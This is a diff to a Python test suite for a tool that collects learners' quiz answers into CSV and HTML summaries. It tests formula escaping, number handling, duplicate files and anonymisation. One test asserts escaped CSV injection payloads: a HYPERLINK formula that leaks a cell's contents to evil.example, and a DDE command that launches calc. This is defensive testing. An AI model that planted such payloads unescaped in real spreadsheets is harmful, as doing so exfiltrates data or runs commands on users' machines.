@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import csv
 import json
+import re
 import shutil
 from html.parser import HTMLParser
 from pathlib import Path
@@ -92,10 +93,11 @@ def test_good_answers_are_summarised_and_marked_again(collected):
 def test_csv_cells_cannot_run_as_formulas(collected):
     cells = [c for row in _cells(collected.csv_path) for c in row]
     risky = [c for c in cells if c.lstrip().startswith(DANGEROUS) or c.startswith(("\t", "\r"))]
-    assert risky == []
+    assert [c for c in risky if not re.fullmatch(r"-?\d+(\.\d+)?", c)] == []
     assert '\'=HYPERLINK("http://evil.example/?"&A1,"Open me")' in cells
     assert "'@SUM(1+1)*cmd|' /C calc'!A0" in cells
-    assert "'-3" in cells and "'+SUM(A1:A9)" in cells and "'=1+1" in cells
+    assert "'+SUM(A1:A9)" in cells and "'=1+1" in cells
+    assert "-3" in cells and "'-3" not in cells  # a plain number cannot run: left as typed
 
 
 def test_csv_reads_back_exactly(collected):
@@ -248,3 +250,179 @@ def test_the_right_answer_keeps_its_tick_when_its_label_is_shortened():
     ticked = [label for label in bars.y if label.endswith(" ✓")]
     assert len(ticked) == 1 and ticked[0].startswith("Step away at any time")
     assert all(len(label) <= 62 for label in bars.y)
+
+
+def _answer_file(folder: Path, learner: str, answers: dict, *, updated: str | None = None) -> None:
+    folder.mkdir(parents=True, exist_ok=True)
+    data = {
+        "format": "everycall-answers",
+        "schema_version": 1,
+        "notebook": "90-demo-all-types",
+        "learner": learner,
+        "updated": updated,
+        "answers": {k: {"value": v, "attempts": 1} for k, v in answers.items()},
+    }
+    (folder / "90-demo-all-types.json").write_text(json.dumps(data), encoding="utf-8")
+
+
+# ---------------------------------------------------------------------------- numbers in the CSV
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [(1234567, "1234567"), (-5, "-5"), (12.5, "12.5"), (0.1234567, "0.1234567"), (-0.5, "-0.5")],
+)
+def test_numeric_answers_keep_every_digit_and_no_apostrophe(tmp_path, value, cell):
+    _answer_file(tmp_path / "in" / "sam", "Sam", {"90-dash-threshold": value})
+    result = cohort.collect(tmp_path / "in", out=tmp_path / "out.csv", exercises_dir=DEFS)
+    (row,) = [r for r in result.rows if r["exercise_id"] == "90-dash-threshold"]
+    assert row["response"] == cell
+    assert cell in [c for line in _cells(tmp_path / "out.csv") for c in line]
+
+
+def test_plain_numbers_are_not_escaped_but_formulas_still_are():
+    assert [cohort.csv_safe(t) for t in ("-5", "-12.25", "5", "-5+1", "-1e3", " -5", "-")] == [
+        "-5",
+        "-12.25",
+        "5",
+        "'-5+1",
+        "'-1e3",
+        "' -5",
+        "'-",
+    ]
+
+
+def test_a_number_too_large_is_skipped_and_the_rest_collected(tmp_path, capsys, monkeypatch):
+    folder = tmp_path / "in"
+    shutil.copytree(ANSWERS / "good", folder)
+    (folder / "crafted").mkdir()
+    (folder / "crafted" / "90-demo-all-types.json").write_text(
+        '{"format": "everycall-answers", "schema_version": 1, "notebook": "90-demo-all-types", '
+        '"learner": "Crafted", "answers": {"90-dash-threshold": {"value": 1'
+        + "0" * 400
+        + ', "attempts": 1}}}'
+    )
+    monkeypatch.chdir(tmp_path)
+    assert main(["answers", "collect", str(folder)]) == 0
+    out, err = capsys.readouterr()
+    assert (
+        'skipped: crafted/90-demo-all-types.json: answer "90-dash-threshold": the value holds a '
+        "number that is not finite or too large" in err
+    )
+    assert "Traceback" not in err and "3 learner(s)" in out
+
+
+# ---------------------------------------------------------------------------- who is who
+
+
+def test_two_learners_with_the_same_name_in_different_folders_are_both_kept(tmp_path):
+    _answer_file(tmp_path / "laptop-1" / "sam", "Sam", {"90-confidence": "Very"})
+    _answer_file(tmp_path / "laptop-2" / "sam", "Sam", {"90-confidence": "A little"})
+    result = cohort.gather(tmp_path, exercises_dir=DEFS)
+    assert result.skipped == []
+    assert result.learners == ["Sam (laptop-1)", "Sam (laptop-2)"]
+    answers = {r["learner"]: r["response"] for r in result.rows}
+    assert answers == {"Sam (laptop-1)": "Very", "Sam (laptop-2)": "A little"}
+    assert "2 learners named Sam, in different folders, are shown apart" in result.summary()
+
+
+def test_the_newer_file_is_found_by_time_not_by_text(tmp_path):
+    # 09:00 in Paris is 08:00 UTC: older than 08:30 UTC, though "09" sorts after "08".
+    _answer_file(
+        tmp_path / "ben", "Ben", {"90-confidence": "Very"}, updated="2026-11-21T09:00:00+01:00"
+    )
+    _answer_file(
+        tmp_path / "copy" / "ben" / "again",
+        "Ben",
+        {"90-confidence": "Fairly"},
+        updated="2026-11-21T08:30:00+00:00",
+    )
+    (tmp_path / "ben-again.json").write_text(
+        (tmp_path / "copy" / "ben" / "again" / "90-demo-all-types.json").read_text()
+    )
+    shutil.rmtree(tmp_path / "copy")
+    result = cohort.gather(tmp_path, exercises_dir=DEFS)
+    assert result.skipped == [
+        "ben/90-demo-all-types.json: a second file for Ben, 90-demo-all-types; kept the newer "
+        "one (ben-again.json)"
+    ]
+    (ben,) = [r for r in result.rows if r["type"] == "confidence"]
+    assert ben["response"] == "Fairly"
+
+
+def test_a_second_file_saved_at_the_same_time_is_not_called_newer(tmp_path):
+    same = "2026-11-21T09:00:00+00:00"
+    _answer_file(tmp_path / "ben", "Ben", {"90-confidence": "Very"}, updated=same)
+    (tmp_path / "ben-again.json").write_text(
+        (tmp_path / "ben" / "90-demo-all-types.json").read_text()
+    )
+    result = cohort.gather(tmp_path, exercises_dir=DEFS)
+    (message,) = result.skipped
+    assert "kept the newer one" not in message
+    assert message == (
+        "ben-again.json: a second file for Ben, 90-demo-all-types; the files do not show which "
+        "is newer, so the first one read was kept (ben/90-demo-all-types.json)"
+    )
+
+
+def test_files_set_aside_after_merging_are_not_read_as_answers(tmp_path):
+    _answer_file(tmp_path / "sam", "Sam", {"90-confidence": "Very"})
+    unnamed = tmp_path / "_unnamed"
+    _answer_file(unnamed, None, {"90-confidence": "Fairly"})
+    (unnamed / "90-demo-all-types.json").rename(
+        unnamed / "90-demo-all-types.merged-20261123T101500000000Z.json"
+    )
+    result = cohort.gather(tmp_path, exercises_dir=DEFS)
+    assert result.learners == ["Sam"]
+    assert result.skipped == [
+        "_unnamed/90-demo-all-types.merged-20261123T101500000000Z.json: was kept aside after its "
+        "answers were added to the learner's own file"
+    ]
+
+
+# ---------------------------------------------------------------------------- anonymised
+
+
+def test_anonymise_hides_names_in_skipped_files_too(tmp_path, capsys, monkeypatch):
+    folder = tmp_path / "in"
+    shutil.copytree(ANSWERS / "good", folder)
+    _answer_file(
+        folder / "sam-patel",
+        "Sam Patel",
+        {"90-confidence": "Very"},
+        updated="2026-11-20T09:00:00+00:00",
+    )
+    _answer_file(
+        folder / "copy" / "sam-patel",
+        "Sam Patel",
+        {"90-confidence": "Fairly"},
+        updated="2026-11-21T09:00:00+00:00",
+    )
+    (folder / "copy" / "sam-patel" / "90-demo-all-types.json").rename(
+        folder / "sam-patel" / "90-demo-all-types (1).json"
+    )
+    (folder / "amira-khan").mkdir()
+    (folder / "amira-khan" / "01-reading-a-case-timeline.json").write_text("{ torn")
+    monkeypatch.chdir(tmp_path)
+    assert main(["answers", "collect", str(folder), "--anonymise"]) == 0
+    out, err = capsys.readouterr()
+    parser = _Tags()
+    parser.feed((tmp_path / "cohort-summary.html").read_text(encoding="utf-8"))
+    shown = [err, out, parser.text, (tmp_path / "cohort-summary.csv").read_text("utf-8-sig")]
+    for name in ("Sam", "sam-patel", "Amira", "amira", "Ben", "ben/", "Chloe", "chloe"):
+        assert not [text for text in shown if name in text], name
+    assert "skipped: file " in err and ": is not valid JSON (line 1, column 3)" in err
+    assert "a second file for Learner " in err and "kept the newer one (file " in err
+    assert "Files skipped" in parser.text and "is not valid JSON" in parser.text
+    assert "run without --anonymise to see which" in out
+
+
+def test_anonymised_file_numbers_do_not_follow_the_alphabet(tmp_path, monkeypatch):
+    monkeypatch.setenv("EVERYCALL_HANDOUT", "1")  # a fixed shuffle, so the test cannot flake
+    names = ("Amira", "Ben", "Chloe", "Dev", "Ellie", "Femi")
+    for i, name in enumerate(names):
+        _answer_file(tmp_path / name.lower(), name, {"90-calm-caller": f"reflection {i}"})
+    result = cohort.gather(tmp_path, anonymise=True, exercises_dir=DEFS)
+    by_folder = [r["file"] for r in sorted(result.rows, key=lambda r: r["response"])]
+    assert sorted(by_folder) == sorted(f"file {i}" for i in range(1, 7))
+    assert by_folder != [f"file {i}" for i in range(1, 7)]  # "file 1" is not Amira's
